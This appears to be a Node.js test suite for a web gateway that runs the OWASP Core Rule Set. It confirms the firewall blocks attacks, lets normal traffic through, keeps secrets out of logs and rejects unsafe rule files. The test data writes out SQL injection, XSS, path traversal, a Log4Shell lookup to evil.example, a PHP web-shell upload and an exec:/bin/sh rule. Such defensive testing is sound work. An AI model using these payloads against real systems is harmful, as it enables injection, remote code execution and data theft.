// The OWASP Core Rule Set in front of an application: what it stops and what it lets pass, in the real program.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { folder, remember, serve, sleep } from './lib/gatehouse.js';

const secret = remember('kept-from-the-firewalls-log');
const seen = [];
let upstream, house, dir, port, operations, rules;

const freePort = () => new Promise((r) => { const s = net.createServer().listen(0, '127.0.0.1', () => { const { port } = s.address(); s.close(() => r(port)); }); });

before(async () => {
  upstream = http.createServer((request, reply) => {
    const pieces = [];
    request.on('data', (d) => pieces.push(d));
    request.on('end', () => {
      seen.push(request.url);
      reply.end(Buffer.concat(pieces));
    });
  }).listen(0, '127.0.0.1');
  await new Promise((r) => upstream.on('listening', r));
  const to = `http://127.0.0.1:${upstream.address().port}`;
  [port, operations] = [await freePort(), await freePort()];
  dir = folder('firewall');
  rules = path.join(dir, 'own.conf');
  fs.writeFileSync(rules, 'SecRule REQUEST_HEADERS:X-Kind "@streq forbidden" "id:1000,phase:1,deny,log"\n');
  fs.writeFileSync(path.join(dir, 'gatehouse.yaml'), `
data: data
listeners: [{port: ${port}}]
operations: {port: ${operations}}
reload_on_change: false
log: {level: debug, form: json}
org: {hosts: ["127.0.0.1"]}
gateway:
  hosts:
    - host: app.localhost
      routes:
        - {path: /, upstream: "${to}", open: true, firewall: true}
        - {path: /detect, upstream: "${to}", open: true, firewall: {mode: detect}}
        - {path: /without-sqli, upstream: "${to}", open: true, firewall: {exclude_tags: [attack-sqli]}}
        - {path: /own, upstream: "${to}", open: true, firewall: {rules: ["${rules}"]}}
        - {path: /small, upstream: "${to}", open: true, firewall: {body_max: 4KiB}}
        - {path: /upload, upstream: "${to}", open: true, firewall: {body_max: 4MiB}}
        - {path: /unguarded, upstream: "${to}", open: true}
`);
  house = await serve(path.join(dir, 'gatehouse.yaml'));
});
after(async () => {
  upstream?.closeAllConnections();
  upstream?.close();
  if (house) assert.equal(await house.stop(), 0);
});

function ask(target, { method = 'GET', headers = {}, body, at = port, agent = false } = {}) {
  return new Promise((resolve, reject) => {
    const request = http.request({ port: at, host: '127.0.0.1', path: target, method, agent, headers: { Host: `app.localhost:${port}`, 'User-Agent': 'Mozilla/5.0', ...headers } }, (reply) => {
      const pieces = [];
      reply.on('data', (d) => pieces.push(d));
      reply.on('end', () => resolve({ status: reply.statusCode, headers: reply.headers, body: Buffer.concat(pieces) }));
    });
    request.on('error', reject);
    request.setTimeout(120000, () => request.destroy(new Error('too slow')));
    request.end(body);
  });
}
const post = (target, type, body, headers = {}) => ask(target, { method: 'POST', body, headers: { 'Content-Type': type, 'Content-Length': Buffer.byteLength(body), ...headers } });
const form = 'application/x-www-form-urlencoded';
async function multipart(fields) {   // as fetch() writes it
  const data = new FormData();
  for (const [name, value] of fields) data.append(name, ...[value].flat());
  const encoded = new Response(data);
  return [encoded.headers.get('content-type'), Buffer.from(await encoded.arrayBuffer())];
}
const last = (event) => house.log().split('\n').filter((line) => line.includes(`"${event}"`)).map((line) => JSON.parse(line)).at(-1);

test('attacks do not reach the application', async () => {
  const before_ = seen.length;
  const answers = {
    sqli: await ask('/?q=1%27%20or%201%3D1--'),
    xss: await ask('/?q=%3Cscript%3Ealert(1)%3C/script%3E'),
    traversal: await ask('/?file=../../../etc/passwd'),
    log4shell: await ask('/', { headers: { 'X-Forwarded-Proto-Version': '${jndi:ldap://evil.example/a}' } }),
    scanner: await ask('/', { headers: { 'User-Agent': 'sqlmap/1.7' } }),
    form: await post('/', form, 'q=1%27+or+1%3D1--'),
    json: await post('/', 'application/json', JSON.stringify({ a: { b: ["1' or 1=1--"] } })),
    multipart: await post('/', ...await multipart([['note', "1' or 1=1--"]])),
    chunked: await ask('/', { method: 'POST', headers: { 'Content-Type': form, 'Transfer-Encoding': 'chunked' }, body: 'q=1%27+or+1%3D1--' }),
    php: await post('/', ...await multipart([['f', [new Blob(['<?php system($_GET[1]);']), 'a.php']]])),
  };
  for (const [name, { status }] of Object.entries(answers)) assert.equal(status, 403, name);
  assert.equal(seen.length, before_);
  assert.equal(JSON.parse(answers.json.body).error, 'Not allowed');
  assert.ok((await ask('/?q=1%27%20or%201%3D1--', { headers: { Accept: 'text/html' } })).body.includes('<h1>Not allowed</h1>'));
});

test('honest requests pass unchanged', async () => {
  assert.equal((await ask('/wiki/Main_Page?title=Ada+Lovelace&lang=en')).status, 200);
  const json = JSON.stringify({ name: 'Ada', tags: ['mathematics', 'engines'], born: 1815 });
  assert.equal(String((await post('/orders', 'application/json', json)).body), json);
  assert.equal(String((await ask('/orders/1', { method: 'PUT', body: json, headers: { 'Content-Type': 'application/json', 'Content-Length': json.length } })).body), json);
  const [type, upload] = await multipart([['note', 'holiday'], ['f', [new Blob([Buffer.alloc(1_500_000, 0x89)]), 'beach.png']]]);
  const answer = await post('/upload', type, upload);
  assert.equal(answer.status, 200);
  assert.ok(answer.body.equals(upload));
});

test('what is refused is told by number, and never what was sent', async () => {
  await post('/', form, `password=${secret}&q=1%27+or+1%3D1--`, { Authorization: `Bearer ${secret}`, Cookie: `session=${secret}` });
  const line = last('gateway.firewall');
  assert.equal(line.verdict, 'blocked');
  assert.equal(line.rules, '942100');
  assert.ok(line.score >= 5);
  assert.ok(!house.log().includes(secret));
  const metrics = String((await ask('/metrics', { at: operations })).body);
  assert.match(metrics, /gatehouse_firewall_matches_total\{group="sqli",verdict="blocked"\} \d+/);
  assert.match(metrics, /gatehouse_firewall_matches_total\{group="xss",verdict="blocked"\} \d+/);
});

test('detecting lets pass and tells', async () => {
  const answer = await post('/detect', form, 'q=1%27+or+1%3D1--');
  assert.equal(answer.status, 200);
  assert.equal(String(answer.body), 'q=1%27+or+1%3D1--');
  for (let i = 0; i < 200 && last('gateway.firewall')?.verdict !== 'would block'; i++) await sleep(10);   // the log is written beside
  assert.equal(last('gateway.firewall').verdict, 'would block');
});

test('rules that are excluded do not stop anybody', async () => {
  assert.equal((await ask('/without-sqli?q=1%27%20or%201%3D1--')).status, 200);
  assert.equal((await ask('/without-sqli?q=%3Cscript%3Ealert(1)%3C/script%3E')).status, 403);
});

test('bodies that are too large, broken or compressed are refused', async () => {
  assert.equal((await post('/small', form, 'a='.padEnd(4096, 'x'))).status, 200);
  assert.equal((await post('/small', form, 'a='.padEnd(4097, 'x'))).status, 413);
  assert.equal((await ask('/small', { method: 'POST', headers: { 'Content-Type': form, 'Transfer-Encoding': 'chunked' }, body: 'a='.padEnd(10000, 'x') })).status, 413);
  assert.equal((await post('/', 'application/json', '{"a": ')).status, 400);
  assert.equal((await post('/', 'application/json', '{}', { 'Content-Encoding': 'gzip' })).status, 415);
});

test('a reload takes new rules over, and refuses broken ones with their place', async () => {
  const forbidden = () => ask('/own', { headers: { 'X-Kind': 'forbidden' } });
  const reload = async (event) => {
    const count = () => house.log().split(`"${event}"`).length;
    const before_ = count();
    house.child.kill('SIGHUP');
    for (let i = 0; i < 500 && count() === before_; ++i) await sleep(20);
    assert.ok(count() > before_, event);
    return last(event);
  };
  assert.equal((await forbidden()).status, 403);
  fs.writeFileSync(rules, 'SecMarker A\nSecRule REQUEST_HEADERS:X-Kind "@nosuch x" "id:1000,phase:1,deny"\n');
  const broken = await reload('configuration.refused');
  assert.ok(broken.why.includes(`${rules}:2: @nosuch is not an operator`), broken.why);
  fs.writeFileSync(rules, 'SecRule ARGS "@rx x" \\\n  "id:1000,phase:2,pass,exec:/bin/sh"\n');
  assert.ok((await reload('configuration.refused')).why.includes(`${rules}:1: exec: rules cannot start programs`));
  assert.equal((await forbidden()).status, 403);
  fs.writeFileSync(rules, 'SecRule REQUEST_HEADERS:X-Kind "@streq other" "id:1000,phase:1,deny,log"\n');
  await reload('configuration.loaded');
  assert.equal((await forbidden()).status, 200);
});

test('while the firewall has more than it can do, other routes answer, and it never opens', async () => {
  // More bodies at once than there are places in the queue, each of which takes a while.
  const heavy = Buffer.from(`a=${'x'.repeat(20_000)}`);
  const flood = Array.from({ length: 600 }, () => post('/flood', form, heavy).catch((error) => ({ status: 0, error })));
  assert.equal((await ask('/unguarded')).status, 200);
  const attack = await ask('/?q=1%27%20or%201%3D1--');
  assert.ok(attack.status === 403 || attack.status === 503, `${attack.status}`);
  const statuses = new Set((await Promise.all(flood)).map(({ status }) => status));
  assert.ok(statuses.has(200) && statuses.has(503), [...statuses].join());
  assert.equal((await ask('/')).status, 200);
});
